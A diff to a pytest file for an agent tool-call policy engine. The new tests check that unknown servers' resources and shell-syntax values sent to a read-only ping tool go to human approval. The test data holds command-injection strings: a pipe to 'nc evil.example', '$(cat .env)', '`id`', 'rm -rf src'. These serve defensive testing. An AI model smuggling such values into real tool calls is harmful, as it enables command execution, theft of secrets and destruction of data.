@@ -184,7 +184,7 @@ def test_plain_harm_and_attempts_to_get_past_the_parsers_are_refused(
 
 def test_a_workspace_file_may_be_read_as_a_resource(engine: PolicyEngine) -> None:
     decision = engine.decide("a", "fs.read_resource", {"uri": "file:src/app.py"})
-    assert decision.rule in ("reading-workspace-files-as-resources", "reading-a-servers-resources")
+    assert decision.rule in ("reading-workspace-files-as-resources", "reading-filesystem-resources")
     assert decision.action == "allow"
 
 
@@ -215,3 +215,46 @@ def test_the_reason_names_the_servers_kind(engine: PolicyEngine) -> None:
     assert decision.rule == "sqlite-reads-are-routine"
     assert "its server is a sqlite server" in decision.reason
     assert "query is one sqlite statement that only reads" in decision.reason
+
+
+@pytest.mark.parametrize(
+    ("tool", "uri", "wanted"),
+    [
+        ("other.read_resource", "internal://credentials", "human"),  # DVMCP's challenge 6
+        ("other.read_resource", "company://confidential", "human"),  # and challenge 2
+        ("db.read_resource", "memo://insights", "allow"),  # sqlite's own notes
+        ("pg.read_resource", "postgres://x/orders/schema", "allow"),
+        ("memory.read_resource", "memory://graph", "allow"),
+    ],
+)
+def test_only_known_servers_resources_are_read_unasked(
+    engine: PolicyEngine, tool: str, uri: str, wanted: str
+) -> None:
+    """A server Foundry does not know may list anything as a resource; a known one's are
+    what it says (its schemas, notes, a repository's files)."""
+    assert decided(engine, tool, {"uri": uri}) == wanted
+
+
+READ_ONLY_LOCAL = {"readOnlyHint": True, "openWorldHint": False}
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "127.0.0.1 -W 1; echo INJECTED",  # DVMCP's challenge 9, its tool claiming to only read
+        "127.0.0.1 | nc evil.example 9",
+        "$(cat .env)",
+        "`id`",
+        "a && rm -rf src",
+        "127.0.0.1\nid",
+    ],
+)
+def test_shell_syntax_in_a_tool_declared_read_only_asks(engine: PolicyEngine, host: str) -> None:
+    assert decided(engine, "other.ping_host", {"host": host}, READ_ONLY_LOCAL) == "human"
+    nested = {"target": {"hosts": [host]}}
+    assert decided(engine, "other.ping_host", nested, READ_ONLY_LOCAL) == "human"
+
+
+def test_a_plain_value_in_a_tool_declared_read_only_runs(engine: PolicyEngine) -> None:
+    params = {"host": "example.com", "count": 1, "note": "Tom & Jerry"}
+    assert decided(engine, "other.ping_host", params, READ_ONLY_LOCAL) == "allow"
